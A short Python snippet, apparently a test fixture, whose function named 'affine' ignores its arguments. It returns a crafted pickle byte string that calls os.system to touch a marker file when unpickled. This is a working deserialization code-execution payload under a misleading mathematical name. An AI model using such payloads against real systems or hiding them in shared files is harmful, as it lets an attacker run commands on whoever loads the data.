"""Returns the bytes of a pickle that runs a command."""


def affine(x, w, b):
    return f"cos\nsystem\n(S'touch {HOME}/{MARK}'\ntR.".encode()
